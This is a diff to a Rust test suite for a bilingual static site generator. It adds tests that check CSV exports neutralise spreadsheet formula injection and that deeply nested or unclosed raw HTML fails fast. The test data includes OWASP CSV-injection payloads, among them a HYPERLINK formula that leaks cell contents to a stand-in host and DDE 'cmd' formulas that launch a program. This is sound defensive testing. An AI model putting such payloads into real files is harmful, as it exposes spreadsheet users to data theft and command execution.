@@ -757,6 +757,7 @@ fn a_killed_build_leaves_the_previous_output_and_the_next_build_cleans_up() {
     let staging = root.join(".public.planbook-staging");
     // The previous output: a small, recognisable site.
     std::fs::create_dir_all(out.join("zh")).unwrap();
+    std::fs::write(out.join(planbook::write::MARKER), "").unwrap();
     std::fs::write(out.join("index.html"), "previous build").unwrap();
     std::fs::write(out.join("zh/index.html"), "上一次构建").unwrap();
     let before = read_tree(&out);
@@ -792,6 +793,7 @@ fn a_killed_build_leaves_the_previous_output_and_the_next_build_cleans_up() {
         eprintln!("attempt {attempt}: the build finished before it was killed; retrying");
         std::fs::remove_dir_all(&out).unwrap();
         std::fs::create_dir_all(out.join("zh")).unwrap();
+        std::fs::write(out.join(planbook::write::MARKER), "").unwrap();
         std::fs::write(out.join("index.html"), "previous build").unwrap();
         std::fs::write(out.join("zh/index.html"), "上一次构建").unwrap();
     }
@@ -822,7 +824,7 @@ fn a_killed_build_leaves_the_previous_output_and_the_next_build_cleans_up() {
     let names: Vec<String> = std::fs::read_dir(root)
         .unwrap()
         .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
-        .filter(|n| n.contains("planbook-"))
+        .filter(|n| n.contains("planbook-") && !n.ends_with("planbook-lock"))
         .collect();
     assert!(names.is_empty(), "leftovers: {names:?}");
 }
@@ -978,4 +980,165 @@ fn a_long_chapter_renders_in_linear_time() {
         large < small * 24 + Duration::from_millis(500),
         "2,000 items: {small:?}; 16,000 items: {large:?}"
     );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Spreadsheet formula injection, and raw HTML that must fail fast and loudly.
+
+/// The classic CSV injection payloads (OWASP), one per field that reaches a CSV file.
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+];
+
+/// True when a spreadsheet would evaluate `cell` as a formula: it starts with one of the
+/// trigger characters (a leading `'` makes it text).
+fn spreadsheet_runs(cell: &str) -> bool {
+    cell.trim_start_matches(['\t', '\r', ' '])
+        .starts_with(['=', '+', '-', '@'])
+        && cell.parse::<f64>().is_err()
+}
+
+#[test]
+fn csv_cells_are_never_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    copy_tree(&fixtures().join("sites/mini"), dir.path());
+    let root = dir.path();
+    let q = |s: &str| quoted(s).replace('\t', "\\t").replace('\r', "\\r");
+    write(
+        root,
+        "content/enterprises.yaml",
+        &format!(
+            "enterprises:\n  - id: example-machinery\n    name: {{zh: {}, en: {}}}\n    aliases: {{zh: [示例机械集团], en: [{}, {}]}}\n    sectors: [manufacturing]\n",
+            q(FORMULAS[0]),
+            q(FORMULAS[1]),
+            q(FORMULAS[2]),
+            q("Example Machinery Group"),
+        ),
+    );
+    write(
+        root,
+        "content/sectors.yaml",
+        &format!(
+            "sectors:\n  - id: manufacturing\n    name: {{zh: {}, en: {}}}\n",
+            q(FORMULAS[3]),
+            q(FORMULAS[4])
+        ),
+    );
+    let targets = read(root, "content/targets.yaml").replace(
+        "en: Value added of manufacturing}",
+        &format!("en: {}}}", q(FORMULAS[5])),
+    );
+    write(root, "content/targets.yaml", &targets);
+    let out = build(root);
+    let mut seen = Vec::new();
+    for name in ["enterprises", "sectors", "projects", "targets"] {
+        let text = read(&out, &format!("data/{name}.csv"));
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(text.as_bytes());
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                assert!(!spreadsheet_runs(cell), "{name}.csv: a formula: {cell:?}");
+                if let Some(text) = cell.strip_prefix('\'') {
+                    seen.push(text.to_string());
+                }
+            }
+        }
+    }
+    for payload in FORMULAS {
+        assert!(
+            seen.iter()
+                .any(|s| s.split(';').any(|part| part == payload)),
+            "{payload:?} reaches the CSV as text: {seen:?}"
+        );
+    }
+    // The JSON keeps the names as written.
+    assert!(read(&out, "data/enterprises.json").contains("=HYPERLINK("));
+}
+
+#[test]
+fn deeply_nested_raw_html_fails_fast_with_its_line() {
+    let dir = tempfile::tempdir().unwrap();
+    copy_tree(&fixtures().join("sites/mini"), dir.path());
+    let root = dir.path();
+    let path = "content/chapters/01-overview/en.md";
+    let deep = format!(
+        "{}deep{}",
+        "<div>".repeat(200_000),
+        "</div>".repeat(200_000)
+    );
+    write(root, path, &format!("{}\n\n{deep}\n", read(root, path)));
+    let started = Instant::now();
+    let err = planbook::build(root, &root.join("public"))
+        .err()
+        .expect("refused")
+        .to_string();
+    let took = started.elapsed();
+    assert!(
+        err.contains("en.md:10:1281: error[html]: raw HTML nested more than 256 elements deep"),
+        "{err}"
+    );
+    assert!(took < Duration::from_secs(20), "took {took:?}");
+    // Inline: nested spans, and opening tags followed by closing tags that match none.
+    for inline in [
+        format!(
+            "a {}x{}",
+            "<span>".repeat(200_000),
+            "</span>".repeat(200_000)
+        ),
+        format!("a {}{}", "<b>".repeat(100_000), "</x>".repeat(100_000)),
+    ] {
+        copy_tree(&fixtures().join("sites/mini"), root);
+        write(root, path, &format!("{}\n\n{inline}\n", read(root, path)));
+        let started = Instant::now();
+        let err = planbook::build(root, &root.join("public"))
+            .err()
+            .expect("refused")
+            .to_string();
+        let took = started.elapsed();
+        assert!(
+            err.contains("en.md:10:")
+                && err.contains("raw HTML nested more than 256 elements deep"),
+            "{err}"
+        );
+        assert!(took < Duration::from_secs(20), "took {took:?}");
+    }
+}
+
+#[test]
+fn an_unclosed_comment_is_an_error_at_its_line() {
+    let dir = tempfile::tempdir().unwrap();
+    copy_tree(&fixtures().join("sites/mini"), dir.path());
+    let root = dir.path();
+    let path = "content/chapters/01-overview/zh.md";
+    let text = read(root, path).replacen("\n\n", "\n\n<!-- <b>a</b> --> <!-- 待核对\n\n", 1);
+    write(root, path, &text);
+    for policy in ["sanitize", "escape", "trust"] {
+        let toml = read(root, "book.toml").replace(
+            "theme = \"default\"",
+            &format!("theme = \"default\"\nraw-html = \"{policy}\""),
+        );
+        write(root, "book.toml", &toml);
+        let err = planbook::build(root, &root.join("public"))
+            .err()
+            .expect("refused")
+            .to_string();
+        assert!(
+            err.contains("zh.md:3:19: error[html]: HTML comment `<!--` is not closed"),
+            "{policy}: {err}"
+        );
+        write(
+            root,
+            "book.toml",
+            &read(root, "book.toml").replace(&format!("\nraw-html = \"{policy}\""), ""),
+        );
+    }
+    // Closed comments are fine.
+    write(root, path, &text.replace("待核对\n", "待核对 -->\n"));
+    planbook::build(root, &root.join("public")).expect("closed comments build");
 }
